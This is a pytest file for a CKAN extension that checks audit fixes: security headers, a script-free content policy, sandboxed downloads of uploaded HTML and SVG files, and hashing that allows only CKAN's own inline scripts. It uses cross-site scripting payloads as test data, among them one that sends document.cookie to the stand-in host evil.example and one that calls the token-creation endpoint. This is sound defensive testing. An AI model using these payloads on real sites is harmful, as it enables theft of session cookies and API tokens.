"""Issue 28's findings 2 and 4: uploads that ran script on our origin, and
pages without security headers (login and admin forms could be framed)."""
import pytest

from ckan.tests import factories, helpers

from ckanext.smartcityms.security import inline_code
from tests.datasets import minimal_dataset

pytestmark = pytest.mark.usefixtures("with_plugins", "clean_db", "clean_index")
SCRIPT = "<script>fetch('/api/3/action/api_token_create')</script>"


def directives(response):
    policy = response.headers["Content-Security-Policy"]
    return {part.split()[0]: part.split()[1:] for part in policy.split("; ")}


@pytest.mark.parametrize("path", ["/", "/dataset/", "/user/login", "/handlungsfeld/mobilitaet-verkehr",
                                  "/ckan-admin/", "/gibt-es-nicht"])
def test_every_page_has_the_security_headers_and_a_policy_without_inline_script(app, path):
    response = app.get(path)
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["X-Frame-Options"] == "SAMEORIGIN"
    assert response.headers["Referrer-Policy"] == "strict-origin-when-cross-origin"
    policy = directives(response)
    assert policy["default-src"] == ["'self'"] and policy["frame-ancestors"] == ["'self'"]
    assert policy["connect-src"] == ["'self'", "http://test.ckan.net"] and policy["object-src"] == ["'none'"]
    assert "'unsafe-inline'" not in policy["script-src"] and "'unsafe-eval'" not in policy["script-src"]


def test_api_answers_are_not_sniffed(app):
    response = app.get("/api/3/action/status_show")
    assert response.headers["X-Content-Type-Options"] == "nosniff"


@pytest.fixture
def dataset():
    sysadmin = factories.Sysadmin()
    org = factories.Organization()
    return sysadmin, helpers.call_action("package_create", {"user": sysadmin["name"]},
                                         **minimal_dataset(org["id"]))


@pytest.mark.parametrize("filename, content", [
    ("bericht.html", f"<html><body>{SCRIPT}</body></html>"),
    ("logo.svg", f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>'),
    ("seite.xhtml", f'<html xmlns="http://www.w3.org/1999/xhtml">{SCRIPT}</html>'),
])
def test_an_uploaded_page_or_image_with_script_is_downloaded_never_run(app, dataset, create_with_upload,
                                                                        filename, content):
    sysadmin, created = dataset
    resource = create_with_upload(content, filename, context={"user": sysadmin["name"]},
                                  package_id=created["id"], url="upload",
                                  license="http://dcat-ap.de/def/licenses/dl-zero-de/2.0")
    response = app.get(resource["url"].replace("http://test.ckan.net", ""))
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"].startswith("sandbox")


def test_an_uploaded_table_still_downloads_as_itself(app, dataset, create_with_upload):
    sysadmin, created = dataset
    resource = create_with_upload("a;b\n1;2\n", "werte.csv", context={"user": sysadmin["name"]},
                                  package_id=created["id"], url="upload",
                                  license="http://dcat-ap.de/def/licenses/dl-zero-de/2.0")
    response = app.get(resource["url"].replace("http://test.ckan.net", ""))
    assert response.body == "a;b\n1;2\n" and response.headers["Content-Security-Policy"].startswith("sandbox")


RESOURCE = '{"id": "1", "name": "x\\u003c/script\\u003e"}'
VIEW = "0b6c6a5e-1d0b-4b8e-9a38-0a4b7d7f3c11"


@pytest.mark.parametrize("page, allowed", [
    (f"<script>\n    var preload_resource = {RESOURCE};\n  </script>", True),
    (f"<script type=text/javascript>\n    const gdataDict = {RESOURCE}\n    const gresviewId = '{VIEW}'\n</script>", True),
    ("<button onclick=\"\n document.getElementById('resource-url-none').checked = true;\n"
     " document.getElementById('resource-upload-button').focus();\n \">", True),
    ("<script>alert(document.cookie)</script>", False),
    ("<script>var preload_resource = 1;alert(1);</script>", False),
    ("<script>var preload_resource = {};fetch('//evil.example/'+document.cookie);</script>", False),
    ("<img src=x onclick=\"document.getElementById('resource-url-none').checked = true;alert(1)\">", False),
    ("<a onclick='fetch(1)'>", False),
])
def test_only_the_inline_code_of_ckans_own_templates_gets_a_hash(page, allowed):
    scripts, handlers = inline_code.hashes(page)
    assert bool(scripts or handlers) == allowed


def unhashed_inline_code(response):
    """Inline scripts and event handlers of a page that its policy does not allow by hash."""
    import base64
    import hashlib
    import html
    allowed = set(directives(response)["script-src"])
    digest = lambda text: "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"  # noqa: E731
    page = response.body
    missing = [m.group("body")[:80] for m in inline_code.SCRIPT.finditer(page)
               if "src=" not in m.group("attributes").lower() and digest(m.group("body")) not in allowed]
    for m in inline_code.HANDLER.finditer(page):
        code = html.unescape(m.group("double") if m.group("double") is not None else m.group("single"))
        if digest(code) not in allowed:
            missing.append(code[:80])
    return missing


def test_ckans_own_inline_code_on_the_resource_form_and_table_preview_is_allowed(app, clean_datastore):
    sysadmin = factories.SysadminWithToken()
    org = factories.Organization()
    dataset = helpers.call_action("package_create", {"user": sysadmin["name"]},
                                  **minimal_dataset(org["id"], name="vorschau"))
    resource = dataset["resources"][0]
    helpers.call_action("datastore_create", {"user": sysadmin["name"]}, resource_id=resource["id"], force=True,
                        fields=[{"id": "wert", "type": "int"}], records=[{"wert": 1}])
    view = helpers.call_action("resource_view_create", {"user": sysadmin["name"]}, resource_id=resource["id"],
                               view_type="datatables_view", title="Tabelle")
    headers = {"Authorization": sysadmin["token"]}
    pages = [app.get(f"/dataset/{dataset['name']}/resource/{resource['id']}/view/{view['id']}"),
             app.get(f"/dataset/{dataset['name']}/resource/new", headers=headers),
             app.get(f"/dataset/{dataset['name']}/resource/{resource['id']}/edit", headers=headers)]
    for page in pages:
        assert page.status_code == 200
        assert unhashed_inline_code(page) == []
    assert "gdataDict" in pages[0].body and "onclick" in pages[1].body
